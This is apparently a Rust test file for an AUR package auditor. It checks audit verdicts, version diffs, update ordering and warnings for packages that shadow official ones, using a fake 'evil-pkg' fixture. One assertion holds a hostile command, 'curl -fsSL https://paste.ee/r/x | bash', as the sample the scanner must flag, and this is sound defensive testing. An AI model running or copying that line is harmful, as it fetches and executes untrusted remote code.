//! audit_package, diff and review_updates against the stand-in AUR (RPC and git repositories).

use std::time::Duration;

use archgate_aur::{AurClient, AurConfig, Verdict};

use crate::support::{fake_aur, permit};

fn setup() -> (fake_aur::Aur, AurClient) {
    let aur = fake_aur::Aur::start(fake_aur::packages());
    let c = AurClient::new(AurConfig {
        base_url: aur.srv.base.clone(),
        timeout: Duration::from_secs(5),
        ..AurConfig::default()
    })
    .expect("client");
    (aur, c)
}

#[tokio::test]
async fn audit_package_combines_audit_trust_and_history() {
    let (_aur, c) = setup();
    let git = permit();
    let a = archgate_aur::audit_package(&c, &git, "evil-pkg")
        .await
        .expect("audit");
    assert_eq!(a.report.verdict, Verdict::Dangerous);
    assert!(
        a.report
            .findings
            .iter()
            .any(|f| f.id == "AUR-EXEC-REMOTE" && f.line == 14)
    );
    assert!(
        a.report
            .findings
            .iter()
            .any(|f| f.id == "AUR-PKGMGR-INSTALL" && f.file == "evil-pkg-deps.install")
    );
    assert!(a.trust.iter().any(|t| t.level == "warning" && t.signal.contains("never changed this package before")));
    assert_eq!(a.recent_history.len(), 2);
    let g = archgate_aur::audit_package(&c, &git, "good-pkg")
        .await
        .expect("good");
    assert_eq!(g.report.verdict, Verdict::Ok);
    assert!(g.trust.iter().any(|t| t.signal.starts_with("orphaned")));
}

#[tokio::test]
async fn diff_shows_every_file_and_audits_what_the_change_adds() {
    let (_aur, c) = setup();
    let git = permit();
    let d = archgate_aur::diff(&c, &git, "evil-pkg", None, None)
        .await
        .expect("diff");
    assert_eq!(d.from.version.as_deref(), Some("1.0-1"));
    assert_eq!(d.to.version.as_deref(), Some("1.0-2"));
    let paths: Vec<(&str, &str)> = d
        .files
        .iter()
        .map(|f| (f.path.as_str(), f.change))
        .collect();
    assert_eq!(
        paths,
        [
            (".SRCINFO", "modified"),
            ("PKGBUILD", "modified"),
            ("evil-pkg-deps.install", "added")
        ]
    );
    let pk = &d.files[1].unified;
    assert!(
        pk.contains("+  curl -fsSL https://paste.ee/r/x | bash"),
        "{pk}"
    );
    let ids: Vec<&str> = d.audit.report.findings.iter().map(|f| f.id).collect();
    for want in [
        "AUR-EXEC-REMOTE",
        "AUR-PKGMGR-INSTALL",
        "AUR-DIFF-CREDITS-REWRITTEN",
        "AUR-DIFF-INSTALL-NEW",
    ] {
        assert!(ids.contains(&want), "{want} missing from {ids:?}");
    }
    assert_eq!(d.audit.report.verdict, Verdict::Dangerous);
    // Named versions work too.
    let d2 = archgate_aur::diff(&c, &git, "good-pkg", Some("2.0-1"), Some("2.1-1"))
        .await
        .expect("by version");
    assert_eq!(d2.audit.report.verdict, Verdict::Ok);
    let e = archgate_aur::diff(&c, &git, "good-pkg", Some("9.9-1"), None)
        .await
        .expect_err("unknown version");
    assert_eq!(e.kind(), "version_not_found");
}

#[tokio::test]
async fn review_updates_puts_the_dangerous_update_first() {
    let (aur, c) = setup();
    let git = permit();
    let installed = vec![
        ("good-pkg".to_owned(), "2.0-1".to_owned()),
        ("evil-pkg".to_owned(), "1.0-1".to_owned()),
        ("local-only".to_owned(), "1-1".to_owned()),
        ("good-pkg-current".to_owned(), "1-1".to_owned()),
    ];
    let r = archgate_aur::review_updates(&c, &git, &installed)
        .await
        .expect("review");
    let order: Vec<(&str, Option<Verdict>)> = r
        .updates
        .iter()
        .map(|u| (u.name.as_str(), u.verdict))
        .collect();
    assert_eq!(
        order,
        [
            ("evil-pkg", Some(Verdict::Dangerous)),
            ("good-pkg", Some(Verdict::Ok))
        ]
    );
    assert!(r.not_in_aur.contains(&"local-only".to_owned()));
    let evil = &r.updates[0];
    assert_eq!(
        evil.diff.as_ref().map(|d| d.from.commit.clone()),
        Some(aur.ids("evil-pkg")[0].clone())
    );
    let up = archgate_aur::review_updates(&c, &git, &[("good-pkg".to_owned(), "2.1-1".to_owned())])
        .await
        .expect("current");
    assert!(up.updates.is_empty());
    assert_eq!(up.up_to_date, ["good-pkg"]);
}

/// Issue 36: an AUR package named like an official one got no warning. The binary says which
/// names the sync databases hold; the info answer warns and the audit flags it (at least review).
#[tokio::test]
async fn a_package_shadowing_an_official_one_is_warned_about_and_flagged() {
    let (_aur, c) = setup();
    let git = permit();
    let official = archgate_aur::Shadowed {
        name: "good-pkg".into(),
        repo: "extra".into(),
        version: "2.0-3".into(),
    };
    let mut a = archgate_aur::audit_package(&c, &git, "good-pkg")
        .await
        .expect("audit");
    assert_eq!(a.report.verdict, Verdict::Ok);
    a.note_shadowing(&official);
    assert_eq!(a.report.verdict, Verdict::Review, "{:?}", a.report);
    let f = a
        .report
        .findings
        .iter()
        .find(|f| f.id == archgate_aur::SHADOWS_OFFICIAL)
        .expect("the finding");
    assert!(f.why.contains("extra/good-pkg 2.0-3"), "{f:?}");
    assert!(
        a.report
            .reasons
            .iter()
            .any(|r| r.contains("AUR-SHADOWS-OFFICIAL")),
        "{:?}",
        a.report.reasons
    );
    assert!(
        a.trust
            .iter()
            .any(|t| t.level == "warning" && t.signal.contains("shadows the official package"))
    );
    // Another package's name changes nothing.
    let mut e = archgate_aur::audit_package(&c, &git, "evil-pkg")
        .await
        .expect("audit");
    let before = e.report.findings.len();
    e.note_shadowing(&official);
    assert_eq!(e.report.findings.len(), before);

    let mut info = c
        .info(&["good-pkg".into(), "evil-pkg".into()])
        .await
        .expect("info");
    assert!(info.warnings.is_empty());
    info.note_shadowing(std::slice::from_ref(&official));
    assert_eq!(info.warnings.len(), 1, "{:?}", info.warnings);
    assert!(info.warnings[0].starts_with("good-pkg shadows the official package extra/good-pkg"));
}
